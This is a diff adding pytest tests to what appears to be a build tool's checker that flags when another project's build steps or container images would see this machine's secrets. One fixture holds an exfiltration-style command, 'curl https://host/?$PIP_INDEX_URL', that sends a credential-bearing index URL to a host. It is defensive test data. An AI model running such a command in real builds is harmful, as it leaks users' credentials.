@@ -347,6 +347,43 @@ def test_secrets_of_here_and_commands_of_there_do_not_meet_unasked(take: Take) -
     assert take(theirs, replace(PLANNED, steps=theirs.steps)).exposed == {}
 
 
+def test_an_index_with_a_password_is_a_secret_of_here(read: Read) -> None:
+    mine = replace(PLANNED, env=())
+    theirs = replace(mine, steps=TargetSteps(before_build="curl https://host/?$PIP_INDEX_URL"))
+    (what,) = read(written(theirs)).take([mine], secrets=["PIP_INDEX_URL"]).exposed[ID]
+    assert what.endswith("$PIP_INDEX_URL, with PIP_INDEX_URL of this machine")
+    assert read(written(mine)).take([mine], secrets=["PIP_INDEX_URL"]).exposed == {}
+
+
+IMAGES = {
+    # the plan's image, the file's, whether that comes from elsewhere
+    "another registry": ("manylinux_2_28", "host.example/manylinux_2_28_x86_64", True),
+    "another project": ("manylinux_2_28", "quay.io/evil/manylinux_2_28_x86_64", True),
+    "another image": ("manylinux_2_28", "quay.io/pypa/manylinux_2_34_x86_64", True),
+    "another alias": ("manylinux_2_28", "manylinux_2_34", True),
+    "like a local one": ("localhost/base:1", "host.example/base:1", True),
+    "another local one": ("localhost/base:1", "localhost/other:1", True),
+    "a port": ("host:5000/base:1", "host:5001/base:1", True),
+    "a digest": ("manylinux_2_28", f"quay.io/pypa/manylinux_2_28_x86_64@sha256:{'a' * 64}", False),
+    "its alias": ("quay.io/pypa/manylinux_2_28_x86_64:1", "manylinux_2_28", False),
+    "another tag": ("localhost/base:1", "localhost/base:2", False),
+    "no image": ("manylinux_2_28", "", False),
+}
+
+
+@pytest.mark.parametrize(("image", "other", "is_foreign"), IMAGES.values(), ids=IMAGES)
+def test_secrets_of_here_and_images_of_elsewhere_do_not_meet_unasked(
+    take: Take, image: str, other: str, *, is_foreign: bool
+) -> None:
+    mine = replace(PLANNED, image=image)
+    theirs = replace(mine, image=other)
+    found = take(theirs, mine, container=None)
+    what = f"image {other}, with MY_TOKEN of this machine"
+    assert found.exposed == ({ID: (what,)} if is_foreign else {})
+    assert take(theirs, replace(mine, env=()), container=None).exposed == {}
+    assert found.foreign == {}  # on this host no image is used
+
+
 @pytest.mark.parametrize(
     "theirs",
     [
